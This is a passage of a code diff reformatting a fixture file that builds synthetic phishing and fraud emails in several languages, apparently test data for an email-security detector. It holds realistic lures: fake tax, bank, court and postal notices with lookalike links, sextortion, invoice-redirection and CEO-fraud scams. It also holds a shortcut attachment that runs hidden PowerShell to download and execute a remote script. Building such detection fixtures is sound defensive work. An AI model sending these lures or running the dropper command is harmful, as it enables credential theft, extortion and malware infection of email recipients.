-        attachment('Intimacao_Processo_0012874.html', 'text/html', redirectPage('Intimação', 'Carregando documento…', 'https://tjsp-intimacoes.com/docs/Intimacao_0012874.zip', 'roberto.almeida@almeidaconstrucoes.com.br')),
+        document(
+          [
+            'Fica Vossa Senhoria INTIMADO(A) a comparecer à audiência referente ao processo em epígrafe. O documento da intimação segue em anexo.',
+            'O não comparecimento poderá acarretar revelia e demais sanções previstas em lei.',
+            { small: 'Poder Judiciário — Tribunal de Justiça do Estado de São Paulo' },
+          ],
+          { lang: 'pt-BR' },
+        ),
+        attachment(
+          'Intimacao_Processo_0012874.html',
+          'text/html',
+          redirectPage(
+            'Intimação',
+            'Carregando documento…',
+            'https://tjsp-intimacoes.com/docs/Intimacao_0012874.zip',
+            'roberto.almeida@almeidaconstrucoes.com.br',
+          ),
+        ),
       ]),
     }),
   },
@@ -878,12 +1015,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['govbr-validacao.com:default'],
       relay: 'mail.govbr-validacao.com [203.0.113.222]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Validação de identidade obrigatória' },
-        'Identificamos inconsistências nos dados da sua conta gov.br nível prata. Para evitar a suspensão do acesso aos serviços públicos digitais e ao Meu INSS, valide sua identidade em até 24 horas.',
-        { button: 'Validar minha conta', href: 'https://govbr-validacao.com/sso/login' },
-        { small: 'Governo Federal — gov.br' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Validação de identidade obrigatória' },
+          'Identificamos inconsistências nos dados da sua conta gov.br nível prata. Para evitar a suspensão do acesso aos serviços públicos digitais e ao Meu INSS, valide sua identidade em até 24 horas.',
+          { button: 'Validar minha conta', href: 'https://govbr-validacao.com/sso/login' },
+          { small: 'Governo Federal — gov.br' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -900,12 +1040,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       messageId: '4d5e6f7a8b9c4d0e@contabilidadesantos.com.br',
       dkim: ['contabilidadesantos.com.br:default'],
       relay: 'mail.contabilidadesantos.com.br [198.51.100.150]',
-      body: document([
-        { heading: 'Seus pontos vão expirar' },
-        'Olá Eduardo, você tem 38.400 pontos Livelo que expiram hoje às 23h59. Troque agora por produtos como Smart TV 50", iPhone ou air fryer sem pagar nada a mais.',
-        { button: 'Resgatar meus pontos', href: 'https://livelo-resgate-pontos.shop/catalogo?id=38400' },
-        { small: 'Livelo S.A.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Seus pontos vão expirar' },
+          'Olá Eduardo, você tem 38.400 pontos Livelo que expiram hoje às 23h59. Troque agora por produtos como Smart TV 50", iPhone ou air fryer sem pagar nada a mais.',
+          { button: 'Resgatar meus pontos', href: 'https://livelo-resgate-pontos.shop/catalogo?id=38400' },
+          { small: 'Livelo S.A.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   // ================================================================ es
@@ -923,13 +1066,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['agenciatributaria-devolucion.com:default'],
       relay: 'mail.agenciatributaria-devolucion.com [203.0.113.29]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Agencia Tributaria — Devolución de la Renta 2024' },
-        'Estimado contribuyente, tras el cálculo de su declaración le corresponde una devolución de 312,48 €. No hemos podido efectuar el pago porque sus datos bancarios son incorrectos.',
-        'Confirme sus datos en un plazo de 48 horas para recibir la devolución.',
-        { button: 'Solicitar devolución', href: 'https://agenciatributaria-devolucion.com/sede/devolucion' },
-        { small: 'Agencia Estatal de Administración Tributaria' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Agencia Tributaria — Devolución de la Renta 2024' },
+          'Estimado contribuyente, tras el cálculo de su declaración le corresponde una devolución de 312,48 €. No hemos podido efectuar el pago porque sus datos bancarios son incorrectos.',
+          'Confirme sus datos en un plazo de 48 horas para recibir la devolución.',
+          { button: 'Solicitar devolución', href: 'https://agenciatributaria-devolucion.com/sede/devolucion' },
+          { small: 'Agencia Estatal de Administración Tributaria' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -947,10 +1093,19 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['gestoria-lopezruiz.es:default'],
       relay: 'mail.gestoria-lopezruiz.es [198.51.100.174]',
       body: multipart('mixed', [
-        plain('Estimado contribuyente:\n\nSe le notifica requerimiento de información relativo al Impuesto sobre el Valor Añadido. Encontrará el documento en el archivo adjunto.\n\nDispone de 10 días hábiles para atender el requerimiento.\n\nAgencia Tributaria'),
-        attachment('Notificacion_AEAT_2025GR88412.zip', 'application/zip', zip({
-          'Notificacion_AEAT_2025GR88412.pdf.lnk': shortcut('..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -c "iwr https://aeat-docs.top/n.ps1 | iex"'),
-        })),
+        plain(
+          'Estimado contribuyente:\n\nSe le notifica requerimiento de información relativo al Impuesto sobre el Valor Añadido. Encontrará el documento en el archivo adjunto.\n\nDispone de 10 días hábiles para atender el requerimiento.\n\nAgencia Tributaria',
+        ),
+        attachment(
+          'Notificacion_AEAT_2025GR88412.zip',
+          'application/zip',
+          zip({
+            'Notificacion_AEAT_2025GR88412.pdf.lnk': shortcut(
+              '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+              '-w hidden -c "iwr https://aeat-docs.top/n.ps1 | iex"',
+            ),
+          }),
+        ),
       ]),
     }),
   },
@@ -968,13 +1123,22 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['dgt-sanciones-online.com:default'],
       relay: 'mail.dgt-sanciones-online.com [203.0.113.140]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Sanción pendiente de pago' },
-        { rows: [['Expediente', '2025/884127'], ['Importe', '200,00 €'], ['Con reducción del 50%', '100,00 €']] },
-        'Si no realiza el pago en el plazo indicado, se procederá al cobro por vía ejecutiva con recargo del 20% y a la retirada de puntos.',
-        { button: 'Pagar multa', href: 'https://dgt-sanciones-online.com/pago/2025-884127' },
-        { small: 'Ministerio del Interior — Dirección General de Tráfico' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Sanción pendiente de pago' },
+          {
+            rows: [
+              ['Expediente', '2025/884127'],
+              ['Importe', '200,00 €'],
+              ['Con reducción del 50%', '100,00 €'],
+            ],
+          },
+          'Si no realiza el pago en el plazo indicado, se procederá al cobro por vía ejecutiva con recargo del 20% y a la retirada de puntos.',
+          { button: 'Pagar multa', href: 'https://dgt-sanciones-online.com/pago/2025-884127' },
+          { small: 'Ministerio del Interior — Dirección General de Tráfico' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -991,13 +1155,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['correos-aduana-pago.com:default'],
       relay: 'mail.correos-aduana-pago.com [203.0.113.54]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Su paquete está en espera' },
-        'Su paquete con número de seguimiento PQ44YA0731288 no ha podido ser entregado porque hay gastos de aduana pendientes de pago (1,79 €).',
-        'Si no paga en 48 horas, el paquete será devuelto al remitente.',
-        { button: 'Pagar y programar entrega', href: 'https://correos-aduana-pago.com/seguimiento/PQ44YA0731288' },
-        { small: 'Sociedad Estatal Correos y Telégrafos, S.A.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Su paquete está en espera' },
+          'Su paquete con número de seguimiento PQ44YA0731288 no ha podido ser entregado porque hay gastos de aduana pendientes de pago (1,79 €).',
+          'Si no paga en 48 horas, el paquete será devuelto al remitente.',
+          { button: 'Pagar y programar entrega', href: 'https://correos-aduana-pago.com/seguimiento/PQ44YA0731288' },
+          { small: 'Sociedad Estatal Correos y Telégrafos, S.A.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -1014,13 +1181,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       returnPath: 'apache@mail-server-2231.vps-hosting.es',
       relay: 'mail-server-2231.vps-hosting.es [198.51.100.212]',
       auth: SPOOFED,
-      body: document([
-        'Estimado cliente:',
-        'Hemos detectado un intento de acceso no autorizado a su banca online y, por su seguridad, hemos bloqueado temporalmente su tarjeta.',
-        'Para desbloquearla, verifique su identidad a través del siguiente enlace. Si no lo hace en 24 horas, su tarjeta será cancelada.',
-        { button: 'Verificar identidad', href: 'https://bbva-desbloqueo-tarjeta.com/es/acceso' },
-        { small: 'BBVA. Por favor, no responda a este correo.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          'Estimado cliente:',
+          'Hemos detectado un intento de acceso no autorizado a su banca online y, por su seguridad, hemos bloqueado temporalmente su tarjeta.',
+          'Para desbloquearla, verifique su identidad a través del siguiente enlace. Si no lo hace en 24 horas, su tarjeta será cancelada.',
+          { button: 'Verificar identidad', href: 'https://bbva-desbloqueo-tarjeta.com/es/acceso' },
+          { small: 'BBVA. Por favor, no responda a este correo.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -1039,11 +1209,22 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       relay: 'mail.santander-clientes-aviso.com [203.0.113.186]',
       auth: THROWAWAY,
       body: multipart('mixed', [
-        plain('Estimado/a cliente:\n\nLe adjuntamos un comunicado importante sobre la actualización obligatoria de su firma digital. Léalo con atención.\n\nAtentamente,\nBanco Santander'),
-        attachment('Comunicado_Santander.pdf', 'application/pdf', textPdf([
-          'Banco Santander - Comunicado', 'Actualizacion obligatoria de firma digital',
-          'Debe actualizar su firma digital antes del 15/07/2025 para seguir operando.', 'Pulse aqui para actualizar: santander-firma-digital.com',
-        ], 'https://santander-firma-digital.com/actualizar')),
+        plain(
+          'Estimado/a cliente:\n\nLe adjuntamos un comunicado importante sobre la actualización obligatoria de su firma digital. Léalo con atención.\n\nAtentamente,\nBanco Santander',
+        ),
+        attachment(
+          'Comunicado_Santander.pdf',
+          'application/pdf',
+          textPdf(
+            [
+              'Banco Santander - Comunicado',
+              'Actualizacion obligatoria de firma digital',
+              'Debe actualizar su firma digital antes del 15/07/2025 para seguir operando.',
+              'Pulse aqui para actualizar: santander-firma-digital.com',
+            ],
+            'https://santander-firma-digital.com/actualizar',
+          ),
+        ),
       ]),
     }),
   },
@@ -1061,12 +1242,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['seg-social-tramites.com:default'],
       relay: 'mail.seg-social-tramites.com [203.0.113.64]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Sede Electrónica de la Seguridad Social' },
-        'Le informamos de que tiene una prestación pendiente de cobro por importe de 487,20 €. Para recibirla debe actualizar sus datos bancarios identificándose con Cl@ve o certificado digital.',
-        { button: 'Acceder a mi expediente', href: 'https://seg-social-tramites.com/sede/acceso-clave' },
-        { small: 'Ministerio de Inclusión, Seguridad Social y Migraciones' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Sede Electrónica de la Seguridad Social' },
+          'Le informamos de que tiene una prestación pendiente de cobro por importe de 487,20 €. Para recibirla debe actualizar sus datos bancarios identificándose con Cl@ve o certificado digital.',
+          { button: 'Acceder a mi expediente', href: 'https://seg-social-tramites.com/sede/acceso-clave' },
+          { small: 'Ministerio de Inclusión, Seguridad Social y Migraciones' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -1083,13 +1267,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['iberdrola-reembolsos.com:default'],
       relay: 'mail.iberdrola-reembolsos.com [203.0.113.96]',
       auth: THROWAWAY,
-      body: document([
-        'Estimado/a cliente:',
-        'Hemos detectado un cobro duplicado en su última factura de luz. Le corresponde un reembolso de 84,60 €.',
-        'Para recibirlo en su tarjeta, introduzca los datos de la tarjeta con la que realizó el pago.',
-        { button: 'Solicitar reembolso', href: 'https://iberdrola-reembolsos.com/clientes/reembolso' },
-        { small: 'Iberdrola Clientes, S.A.U.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          'Estimado/a cliente:',
+          'Hemos detectado un cobro duplicado en su última factura de luz. Le corresponde un reembolso de 84,60 €.',
+          'Para recibirlo en su tarjeta, introduzca los datos de la tarjeta con la que realizó el pago.',
+          { button: 'Solicitar reembolso', href: 'https://iberdrola-reembolsos.com/clientes/reembolso' },
+          { small: 'Iberdrola Clientes, S.A.U.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   // ================================================================ fraud
@@ -1106,7 +1293,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Sat, 1 Feb 2025 04:12:30 +0000',
       messageId: 'CAF8pN2xV4mR7tK1wQ9bL3cG6dH5sY0a_uN2pX@mail.gmail.com',
       ...GMAIL,
-      body: gmailBody('Attention Beneficiary,\n\nThis is to inform you that the United Nations in conjunction with the World Bank has approved the sum of $2,500,000.00 USD as compensation for victims of internet fraud. Your email was selected among the beneficiaries.\n\nYour ATM card has been loaded and is ready for delivery. To receive it, send your full name, home address, phone number and a copy of your ID, and pay the delivery and insurance fee of $285 only.\n\nContact Dr. Michael Adeyemi at dr.m.adeyemi@mail.com immediately.\n\nRegards,\nMrs. Helen Carter\nUN Compensation Unit'),
+      body: gmailBody(
+        'Attention Beneficiary,\n\nThis is to inform you that the United Nations in conjunction with the World Bank has approved the sum of $2,500,000.00 USD as compensation for victims of internet fraud. Your email was selected among the beneficiaries.\n\nYour ATM card has been loaded and is ready for delivery. To receive it, send your full name, home address, phone number and a copy of your ID, and pay the delivery and insurance fee of $285 only.\n\nContact Dr. Michael Adeyemi at dr.m.adeyemi@mail.com immediately.\n\nRegards,\nMrs. Helen Carter\nUN Compensation Unit',
+      ),
     }),
   },
   {
@@ -1121,7 +1310,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Tue, 18 Mar 2025 09:40:16 +0000',
       messageId: 'DU2PR08MB7301F3A4B5C6D7E8F9A0B1C2D3E4F5A6@DU2PR08MB7301.eurprd08.prod.outlook.com',
       ...OUTLOOK,
-      body: plain('Dear Thomas,\n\nI am Barrister James Okafor, personal attorney to the late Mr. Robert Whitaker, an oil contractor who died with his family in a car accident in 2021. He left a deposit of US$8,500,000 (Eight Million Five Hundred Thousand US Dollars) with a bank here, and the bank has asked me to present his next of kin or the funds will be confiscated.\n\nSince you share the same surname, I am seeking your consent to present you as the beneficiary. All legal documents will be provided and the transaction is 100% risk free. We will share the funds 50/50.\n\nPlease reply with your full names, private phone number and address so that we can proceed.\n\nBest regards,\nBarrister James Okafor'),
+      body: plain(
+        'Dear Thomas,\n\nI am Barrister James Okafor, personal attorney to the late Mr. Robert Whitaker, an oil contractor who died with his family in a car accident in 2021. He left a deposit of US$8,500,000 (Eight Million Five Hundred Thousand US Dollars) with a bank here, and the bank has asked me to present his next of kin or the funds will be confiscated.\n\nSince you share the same surname, I am seeking your consent to present you as the beneficiary. All legal documents will be provided and the transaction is 100% risk free. We will share the funds 50/50.\n\nPlease reply with your full names, private phone number and address so that we can proceed.\n\nBest regards,\nBarrister James Okafor',
+      ),
     }),
   },
   {
@@ -1142,7 +1333,12 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       body: document([
         { heading: 'Congratulations!' },
         'Your e-mail address attached to ticket number 56475600545 drew the lucky numbers in the EuroMillions International online promotion, and you have won the sum of €950,000.00 (Nine Hundred and Fifty Thousand Euros).',
-        { rows: [['Reference', 'EM/2025/0884127'], ['Batch', '074/11/ZY369']] },
+        {
+          rows: [
+            ['Reference', 'EM/2025/0884127'],
+            ['Batch', '074/11/ZY369'],
+          ],
+        },
         'To claim your prize, contact our claims agent Mr. Luis Fernandez with your full name, address, age, occupation and telephone number. Keep this award confidential until your claim has been processed.',
         { small: 'EuroMillions International Promotions, Madrid.' },
       ]),
@@ -1184,7 +1380,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Wed, 7 May 2025 17:44:12 +0000',
       messageId: 'CAM2pN8xV4mR7tK1wQ9bL3cF6dH5sY0a_rK3pX@mail.gmail.com',
       ...GMAIL,
-      body: gmailBody('Hello,\n\nI am Emily from the HR team of Optimize Digital Marketing. We got your contact from an online job board. We are hiring remote part-time staff to help merchants boost product ratings on online stores.\n\n- Work 60-90 minutes a day from your phone\n- Earn $200-$500 per day, paid daily\n- No experience needed, free training\n\nIf you are interested, please contact our manager on WhatsApp: +1 (347) 555-0186 or click https://wa.me/13475550186\n\nYou must be at least 23 years old.\n\nBest regards,\nEmily Carter'),
+      body: gmailBody(
+        'Hello,\n\nI am Emily from the HR team of Optimize Digital Marketing. We got your contact from an online job board. We are hiring remote part-time staff to help merchants boost product ratings on online stores.\n\n- Work 60-90 minutes a day from your phone\n- Earn $200-$500 per day, paid daily\n- No experience needed, free training\n\nIf you are interested, please contact our manager on WhatsApp: +1 (347) 555-0186 or click https://wa.me/13475550186\n\nYou must be at least 23 years old.\n\nBest regards,\nEmily Carter',
+      ),
     }),
   },
   {
@@ -1202,7 +1400,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       returnPath: 'kevin.doyle@comcast.net',
       relay: 'ip-203-0-113-9.static.example-isp.net [203.0.113.9]',
       auth: { dkim: 'none', spf: 'fail', dmarc: 'fail' },
-      body: plain('Hi kevin.doyle,\n\nI have to share bad news with you. A few months ago I gained access to your devices through a malware on an adult website you visited. Since then I have been watching you.\n\nI recorded a video of you while you were watching those videos, with your camera on, and I have all your contacts and social media.\n\nIf you want me to delete everything, send $1450 in Bitcoin to this address:\n\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 48 hours after opening this email. I can see when you read it. If I do not receive the payment, the video goes to all your contacts.\n\nDo not reply, this mailbox is not monitored.'),
+      body: plain(
+        'Hi kevin.doyle,\n\nI have to share bad news with you. A few months ago I gained access to your devices through a malware on an adult website you visited. Since then I have been watching you.\n\nI recorded a video of you while you were watching those videos, with your camera on, and I have all your contacts and social media.\n\nIf you want me to delete everything, send $1450 in Bitcoin to this address:\n\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 48 hours after opening this email. I can see when you read it. If I do not receive the payment, the video goes to all your contacts.\n\nDo not reply, this mailbox is not monitored.',
+      ),
     }),
   },
   {
@@ -1220,7 +1420,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['northgate-supply.com:default'],
       relay: 'mail.northgate-supply.com [203.0.113.135]',
       auth: THROWAWAY,
-      body: plain('Good morning,\n\nPlease be advised that due to our annual audit we have changed our banking institution. Effective immediately, all outstanding and future payments should be made to our new account below:\n\nBank: First Horizon Bank\nAccount name: Northgate Supply Co\nRouting number: 084000026\nAccount number: 4471 0932 8812\n\nPlease do not send any payment to the old account as it is currently under review. Kindly confirm once you have updated your records and let me know the expected date for the open invoices (INV-20931, INV-20977).\n\nThank you,\nRachel Dunn\nAccounts Receivable\nNorthgate Supply Co.'),
+      body: plain(
+        'Good morning,\n\nPlease be advised that due to our annual audit we have changed our banking institution. Effective immediately, all outstanding and future payments should be made to our new account below:\n\nBank: First Horizon Bank\nAccount name: Northgate Supply Co\nRouting number: 084000026\nAccount number: 4471 0932 8812\n\nPlease do not send any payment to the old account as it is currently under review. Kindly confirm once you have updated your records and let me know the expected date for the open invoices (INV-20931, INV-20977).\n\nThank you,\nRachel Dunn\nAccounts Receivable\nNorthgate Supply Co.',
+      ),
     }),
   },
   {
@@ -1236,7 +1438,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Fri, 13 Jun 2025 14:02:37 +0000',
       messageId: 'CAH7pN2xV4mR8tK1wQ9bL3cF6dH5sY0a_cV2pX@mail.gmail.com',
       ...GMAIL,
-      body: gmailBody('Hi Megan,\n\nAre you available? I\'m in a meeting with clients and can\'t talk on the phone. I need you to get 6 Apple gift cards of $200 each for some of our clients, it\'s a surprise so keep it discreet.\n\nScratch the back, take clear pictures of the codes and email them to me. I will reimburse you today.\n\nThanks,\nDaniel\n\nSent from my iPhone'),
+      body: gmailBody(
+        "Hi Megan,\n\nAre you available? I'm in a meeting with clients and can't talk on the phone. I need you to get 6 Apple gift cards of $200 each for some of our clients, it's a surprise so keep it discreet.\n\nScratch the back, take clear pictures of the codes and email them to me. I will reimburse you today.\n\nThanks,\nDaniel\n\nSent from my iPhone",
+      ),
     }),
   },
   {
@@ -1248,7 +1452,7 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
     raw: mail({
       from: 'service@paypal.com',
       to: 'rebecca.long@gmail.com',
-      subject: 'You\'ve got a money request from Billing Department',
+      subject: "You've got a money request from Billing Department",
       date: 'Tue, 24 Jun 2025 19:30:48 -0700',
       messageId: 'E1:d41c9f2b7a8e0-3b6f-11f0-a1c2-3cfdfe0c9b20@paypal.com',
       dkim: ['paypal.com:pp-dkim1'],
@@ -1256,7 +1460,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       relay: 'mx0.slc.paypal.com [173.0.84.225]',
       body: document([
         { heading: 'Billing Department sent you a money request for $599.99 USD' },
-        { rows: [['Amount requested', '$599.99 USD'], ['Note from Billing Department', 'Your PayPal account was charged $599.99 for a Bitcoin purchase. If you did not authorize this, call PayPal Support +1 (888) 555-0177 immediately to cancel.']] },
+        {
+          rows: [
+            ['Amount requested', '$599.99 USD'],
+            [
+              'Note from Billing Department',
+              'Your PayPal account was charged $599.99 for a Bitcoin purchase. If you did not authorize this, call PayPal Support +1 (888) 555-0177 immediately to cancel.',
+            ],
+          ],
+        },
         { button: 'Pay Now', href: 'https://www.paypal.com/myaccount/transfer/requests/5HK28812WX447310M' },
         { small: 'PayPal is committed to preventing fraudulent emails. Copyright © 1999-2025 PayPal, Inc. All rights reserved.' },
       ]),
@@ -1275,7 +1487,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Sun, 6 Jul 2025 03:21:09 +0000',
       messageId: 'CAJ9pN2xV4mR7tK1wQ8bL3cF6dH5sY0a_vC4pX@mail.gmail.com',
       ...GMAIL,
-      body: gmailBody('Hi Richard, thank you for telling me I had the wrong email, you are very kind 😊 Most people would just ignore.\n\nI live in Seattle, I work in fashion import and in my free time I do crypto trading with my uncle, he is an analyst at a big fund. Last month we made 40% with an AI quantitative strategy on this platform: https://quantix-ai-trade.com\n\nIf you want I can teach you, it is very simple and you can start with $1,000. Can we talk on WhatsApp? My number is +1 (206) 555-0149.\n\nVivian'),
+      body: gmailBody(
+        'Hi Richard, thank you for telling me I had the wrong email, you are very kind 😊 Most people would just ignore.\n\nI live in Seattle, I work in fashion import and in my free time I do crypto trading with my uncle, he is an analyst at a big fund. Last month we made 40% with an AI quantitative strategy on this platform: https://quantix-ai-trade.com\n\nIf you want I can teach you, it is very simple and you can start with $1,000. Can we talk on WhatsApp? My number is +1 (206) 555-0149.\n\nVivian',
+      ),
     }),
   },
   {
@@ -1293,7 +1507,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['mueller-stahlbau-gmbh.de:default'],
       relay: 'mail.mueller-stahlbau-gmbh.de [203.0.113.149]',
       auth: THROWAWAY,
-      body: plain('Sehr geehrte Damen und Herren,\n\nanbei zur Info das Schreiben unserer Geschäftsführung. Bitte überweisen Sie die offenen Rechnungen RE-2025-0412 und RE-2025-0437 (gesamt 18.460,00 EUR) ab sofort auf das neue Konto und bestätigen Sie mir kurz die Änderung.\n\nMit freundlichen Grüßen\nAndrea Keller\nBuchhaltung\nMüller Stahlbau GmbH\n\n---------- Weitergeleitete Nachricht ----------\nVon: Geschäftsführung Müller Stahlbau GmbH\nDatum: 24.06.2025\nBetreff: Neue Bankverbindung\n\nAufgrund einer internen Umstellung ändert sich unsere Bankverbindung ab dem 01.07.2025:\n\nKontoinhaber: Mueller Stahlbau GmbH\nIBAN: LT12 3250 0241 9988 1207\nBIC: REVOLT21\n\nDie bisherige Verbindung bei der Sparkasse wird nicht mehr verwendet. Zahlungen auf das alte Konto können nicht mehr zugeordnet werden.\n\nGeschäftsführung'),
+      body: plain(
+        'Sehr geehrte Damen und Herren,\n\nanbei zur Info das Schreiben unserer Geschäftsführung. Bitte überweisen Sie die offenen Rechnungen RE-2025-0412 und RE-2025-0437 (gesamt 18.460,00 EUR) ab sofort auf das neue Konto und bestätigen Sie mir kurz die Änderung.\n\nMit freundlichen Grüßen\nAndrea Keller\nBuchhaltung\nMüller Stahlbau GmbH\n\n---------- Weitergeleitete Nachricht ----------\nVon: Geschäftsführung Müller Stahlbau GmbH\nDatum: 24.06.2025\nBetreff: Neue Bankverbindung\n\nAufgrund einer internen Umstellung ändert sich unsere Bankverbindung ab dem 01.07.2025:\n\nKontoinhaber: Mueller Stahlbau GmbH\nIBAN: LT12 3250 0241 9988 1207\nBIC: REVOLT21\n\nDie bisherige Verbindung bei der Sparkasse wird nicht mehr verwendet. Zahlungen auf das alte Konto können nicht mehr zugeordnet werden.\n\nGeschäftsführung',
+      ),
     }),
   },
   {
@@ -1310,7 +1526,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['kontakt-sicherheit24.net:default'],
       relay: 'mail.kontakt-sicherheit24.net [203.0.113.166]',
       auth: THROWAWAY,
-      body: plain('Hallo,\n\nich bin Hacker und habe vor einigen Monaten Zugriff auf Ihr Gerät erhalten. Ich habe Sie über Ihre Kamera aufgenommen, während Sie Erwachsenen-Webseiten besucht haben, und habe Zugriff auf alle Ihre Kontakte.\n\nWenn Sie nicht wollen, dass ich dieses Video an Ihre Familie, Freunde und Kollegen schicke, überweisen Sie 1.200 € in Bitcoin an folgende Adresse:\n\nbc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6axemvljvt2k76zs50tv4q\n\nSie haben 48 Stunden Zeit. Ich sehe, wann Sie diese E-Mail geöffnet haben. Antworten Sie nicht auf diese E-Mail.'),
+      body: plain(
+        'Hallo,\n\nich bin Hacker und habe vor einigen Monaten Zugriff auf Ihr Gerät erhalten. Ich habe Sie über Ihre Kamera aufgenommen, während Sie Erwachsenen-Webseiten besucht haben, und habe Zugriff auf alle Ihre Kontakte.\n\nWenn Sie nicht wollen, dass ich dieses Video an Ihre Familie, Freunde und Kollegen schicke, überweisen Sie 1.200 € in Bitcoin an folgende Adresse:\n\nbc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6axemvljvt2k76zs50tv4q\n\nSie haben 48 Stunden Zeit. Ich sehe, wann Sie diese E-Mail geöffnet haben. Antworten Sie nicht auf diese E-Mail.',
+      ),
     }),
   },
   {
@@ -1326,7 +1544,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Thu, 17 Jul 2025 11:26:53 +0200',
       messageId: 'PR3P195MB0811A2B3C4D5E6F7A8B9C0D1E2F3A4B5@PR3P195MB0811.EURP195.PROD.OUTLOOK.COM',
       ...OUTLOOK,
-      body: plain('Bonjour Sandrine,\n\nJe suis actuellement en déplacement et je vous écris depuis ma boîte personnelle. Nous finalisons une acquisition stratégique à l\'étranger et j\'ai besoin de votre entière discrétion : personne d\'autre ne doit être informé avant l\'annonce officielle, y compris au sein de la direction financière.\n\nJe vais avoir besoin que vous effectuiez aujourd\'hui un virement de 86 400 € vers le compte du cabinet d\'avocats qui nous accompagne. Me Laurent vous contactera pour les coordonnées bancaires.\n\nPouvez-vous me confirmer votre disponibilité ? Je ne suis pas joignable par téléphone pour le moment.\n\nCordialement,\nPhilippe Marchand\nPrésident Directeur Général'),
+      body: plain(
+        "Bonjour Sandrine,\n\nJe suis actuellement en déplacement et je vous écris depuis ma boîte personnelle. Nous finalisons une acquisition stratégique à l'étranger et j'ai besoin de votre entière discrétion : personne d'autre ne doit être informé avant l'annonce officielle, y compris au sein de la direction financière.\n\nJe vais avoir besoin que vous effectuiez aujourd'hui un virement de 86 400 € vers le compte du cabinet d'avocats qui nous accompagne. Me Laurent vous contactera pour les coordonnées bancaires.\n\nPouvez-vous me confirmer votre disponibilité ? Je ne suis pas joignable par téléphone pour le moment.\n\nCordialement,\nPhilippe Marchand\nPrésident Directeur Général",
+      ),
     }),
   },
   {
@@ -1341,7 +1561,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Mon, 4 Aug 2025 08:19:02 +0000',
       messageId: 'CAK1pN8xV4mR7tK2wQ9bL3cF6dH5sY0a_iR5pX@mail.gmail.com',
       ...GMAIL,
-      body: gmailBody('Bonjour,\n\nJe suis Mme Isabelle Renaud, veuve de feu M. Jean Renaud, industriel. Je suis atteinte d\'un cancer en phase terminale et mon médecin me donne quelques semaines à vivre. Je n\'ai pas d\'enfant.\n\nJe souhaite faire don de la somme de 1 500 000 € que mon mari a laissée sur un compte bancaire, à une personne honnête qui en fera bon usage pour les orphelins et les personnes démunies.\n\nSi vous acceptez, répondez-moi avec votre nom complet, votre adresse et votre numéro de téléphone afin que mon notaire vous contacte pour les frais de transfert.\n\nQue Dieu vous bénisse,\nMme Isabelle Renaud'),
+      body: gmailBody(
